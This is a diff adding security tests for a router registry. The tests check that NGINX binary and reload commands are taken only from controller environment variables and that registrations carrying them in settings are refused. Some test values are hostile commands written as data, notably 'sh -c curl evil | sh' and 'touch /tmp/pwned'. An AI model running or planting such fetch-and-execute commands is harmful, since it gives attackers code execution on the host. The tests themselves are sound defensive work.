@@ -15,6 +15,7 @@ import {
 } from "./registry";
 import { baseConfig } from "./k8s/fixtures";
 import { RouterError, type RouterKind } from "./types";
+import { NginxAdapter, nginxHostConfig } from "./nginx";
 
 const key = crypto.randomBytes(32);
 const row = (over: Partial<RouterRow> = {}): RouterRow => ({
@@ -187,5 +188,43 @@ describe("show manifest", () => {
     expect(() => renderRouterManifest({ kind: "haproxy", name: "x", settings: {} }, baseConfig())).toThrow(
       /no Kubernetes manifests/,
     );
+  });
+});
+
+describe("NGINX commands come from the controller's configuration, never from router settings", () => {
+  it("a registration carrying nginxBinary or reloadCommand is refused, naming the field and where it belongs", () => {
+    for (const [key, value, env] of [
+      ["reloadCommand", ["sh", "-c", "curl evil | sh"], "SWITCHYARD_NGINX_RELOAD_COMMAND"],
+      ["nginxBinary", "/tmp/evil", "SWITCHYARD_NGINX_BINARY"],
+    ] as const) {
+      const issues = checkRouterRegistration({
+        kind: "nginx",
+        endpoint: "http://10.0.3.12:8080",
+        settings: { ...KIND_HELP.nginx.settingsExample, [key]: value },
+        hasSecret: false,
+      });
+      expect(issues).toEqual([{ name: `settings.${key}`, reason: expect.stringContaining(env) }]);
+    }
+  });
+
+  it("a stored router still carrying them can't run them: the adapter refuses the settings", () => {
+    const settings = { ...KIND_HELP.nginx.settingsExample, reloadCommand: ["touch", "/tmp/pwned"] };
+    expect(() => new NginxAdapter({ settings })).toThrow(/not a router setting/);
+  });
+
+  it("the binary and reload command are read from the controller's environment", () => {
+    expect(nginxHostConfig({})).toEqual({ binary: "/usr/sbin/nginx" });
+    expect(
+      nginxHostConfig({
+        SWITCHYARD_NGINX_BINARY: "/opt/nginx/sbin/nginx",
+        SWITCHYARD_NGINX_RELOAD_COMMAND: '["systemctl","reload","nginx"]',
+      }),
+    ).toEqual({ binary: "/opt/nginx/sbin/nginx", reloadCommand: ["systemctl", "reload", "nginx"] });
+    expect(() => nginxHostConfig({ SWITCHYARD_NGINX_RELOAD_COMMAND: "systemctl reload nginx" })).toThrow(/JSON array/);
+    const adapter = new NginxAdapter(
+      { settings: KIND_HELP.nginx.settingsExample },
+      nginxHostConfig({ SWITCHYARD_NGINX_RELOAD_COMMAND: '["true"]' }),
+    );
+    expect(adapter.host.reloadCommand).toEqual(["true"]);
   });
 });
